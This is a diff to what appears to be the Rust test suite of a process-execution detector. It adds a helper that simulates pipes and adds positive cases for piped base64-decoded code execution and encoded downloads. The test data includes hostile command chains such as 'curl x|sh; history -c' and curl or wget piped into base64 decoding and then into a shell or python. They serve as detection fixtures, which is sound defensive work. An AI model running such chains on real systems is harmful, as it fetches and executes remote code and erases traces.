@@ -94,6 +94,19 @@ fn with_script(mut e: ExecEvent, language: &'static str, malicious: bool) -> Exe
     e
 }
 
+/// `e` with the process writing its stdin pipe (`a | e`) and, optionally, the one reading its stdout.
+fn piped(mut e: ExecEvent, writer: Option<&[&str]>, reader: Option<&[&str]>) -> ExecEvent {
+    let r = |args: &[&str]| ProcessRef {
+        pid: 61,
+        exe: Some(format!("/usr/bin/{}", args[0])),
+        args: args.iter().map(|a| a.to_string()).collect(),
+        ..Default::default()
+    };
+    e.stdin_writer = writer.map(r);
+    e.stdout_reader = reader.map(r);
+    e
+}
+
 fn script_at(e: ExecEvent, path: &str) -> ExecEvent {
     let mut e = with_script(e, "shell", false);
     if let Some(s) = e.script.as_mut() {
@@ -189,6 +202,10 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
         ("malicious_script_executed", with_script(ev("/bin/sh", &["sh", "-c", "curl x|sh; history -c"]), "shell", true)),
         ("malicious_python_executed", with_script(ev("/usr/bin/python3", &["python3", "-c", "exec(...)"]), "python", true)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/dash", &["sh"]), Some(&["base64", "-d"]), None)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/base64", &["base64", "--decode"]), None, Some(&["python3"]))),
+        ("piped_encoded_download", piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["curl", "-s", "http://x/p"]), None)),
+        ("piped_encoded_download", piped(ev("/usr/bin/wget", &["wget", "-qO-", "http://x/p"]), None, Some(&["base64", "-d"]))),
         ("script_from_temp_dir", script_at(ev("/usr/bin/dash", &["/bin/sh", "/tmp/x.sh"]), "/tmp/x.sh")),
         ("script_from_temp_dir", script_at(ev("/usr/bin/python3.11", &["python3", "-u", "/var/tmp/.c/p.py"]), "/var/tmp/.c/p.py")),
         ("script_from_temp_dir", script_at(ev("/usr/bin/bash", &["bash", "/usr/share/.x/run"]), "/usr/share/.x/run")),
